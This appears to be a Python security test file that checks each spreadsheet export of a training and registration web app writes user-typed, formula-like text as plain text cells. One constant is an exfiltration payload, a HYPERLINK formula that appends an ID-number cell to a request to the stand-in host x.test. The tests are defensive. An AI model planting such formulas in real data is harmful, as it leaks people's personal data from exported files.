"""Issue 12 M1, Excel formula injection: whatever a user typed is written to every export as a text
cell with its value unchanged, never as a live formula (nor as an error value such as #N/A).

Each test puts a formula-like string where a user can type it, downloads the export through its
page, and opens the file as a spreadsheet application would."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from core import audit
from question_bank import transfer
from tests.security.conftest import sign_in

FORMULA = '=HYPERLINK("//x.test/?"&E2,"ok")'  # 31 characters: fits every name field
ERROR = "#N/A"


def _cells(data: bytes, value: str) -> list:
    """Every cell of every sheet of the workbook `data` that holds `value`."""
    assert data[:2] == b"PK", "not an xlsx file"
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == value]


def assert_text(data: bytes, value: str = FORMULA) -> None:
    found = _cells(data, value)
    assert found, f"{value!r} is not in the export as it was typed"
    assert {c.data_type for c in found} == {"s"}, [(c.coordinate, c.data_type) for c in found]


def test_users_export_writes_names_as_text(client, login_as, create_user):
    """Issue 12 M1: the users export."""
    login_as("admin")
    create_user("candidate", full_name=FORMULA)
    create_user("candidate", full_name=ERROR)
    data = client.get("/admin/users?format=xlsx").data
    assert_text(data)
    assert_text(data, ERROR)


def test_centres_export_writes_names_as_text(client, login_as, create_user, db):
    """Issue 12 M1: the training centres export."""
    login_as("admin")
    staff = create_user("centre_staff")
    staff.centre.name = FORMULA
    db.session.commit()
    assert_text(client.get("/admin/centres?format=xlsx").data)


def test_registrations_export_writes_names_as_text(client, draft, create_user):
    """Issue 12 M1: the registrations export (the review's example: a name that is a HYPERLINK
    carrying the ID number column)."""
    draft(full_name=FORMULA)
    sign_in(client, create_user("admin"))
    assert_text(client.get("/registration/?format=xlsx").data)


def test_results_export_writes_names_as_text(client, db, panel, final_results):
    """Issue 12 M1: the results export (certificates)."""
    person = panel["people"][0]
    person.full_name = FORMULA
    panel["centre_a"].name = "=1+1"
    db.session.commit()
    sign_in(client, panel["admin"])
    data = client.get(f"/certificates/admin/{person.event.public_id}?format=xlsx").data
    assert_text(data)
    assert_text(data, "=1+1")


def test_practical_results_and_scheme_exports_write_names_as_text(client, db, panel):
    """Issue 12 M1: the practical results export and the marking scheme export (scoring)."""
    person, scheme = panel["people"][0], panel["scheme"]
    person.full_name = FORMULA
    scheme.tasks[0].name = "=SUM(1,2)"
    scheme.tasks[0].aspects[0].title = FORMULA
    db.session.commit()
    sign_in(client, panel["admin"])
    event = person.event
    assert_text(client.get(f"/scoring/events/{event.public_id}/results.xlsx").data)
    data = client.get(f"/scoring/events/{event.public_id}/scheme.xlsx").data
    assert_text(data)
    assert_text(data, "=SUM(1,2)")


def test_question_bank_export_writes_text_and_imports_back_unchanged(client, login_as, create_question):
    """Issue 12 M1: the question bank export; its round trip keeps the formula-like text as it is."""
    options = [{"key": "A", "text": "=1+1"}, {"key": "B", "text": "-2"}, {"key": "C", "text": "@A1"}]
    create_question(stem=FORMULA, options=options, answer="A", stem_en=None)
    login_as("admin")
    data = client.get("/question-bank/?format=xlsx").data
    for value in (FORMULA, "=1+1", "-2", "@A1"):
        assert_text(data, value)
    row = transfer.read_xlsx(data).rows[0]
    assert row.ok, row.problems
    assert row.data["stem"] == FORMULA
    assert [o["text"] for o in row.data["options"]] == ["=1+1", "-2", "@A1"]


def test_audit_log_export_writes_text(client, login_as, db):
    """Issue 12 M1: the audit log export (a comment is what a user typed)."""
    login_as("admin")
    audit.record(db.session, "test.comment", comment=FORMULA)
    db.session.commit()
    assert_text(client.get("/admin/audit?format=xlsx").data)
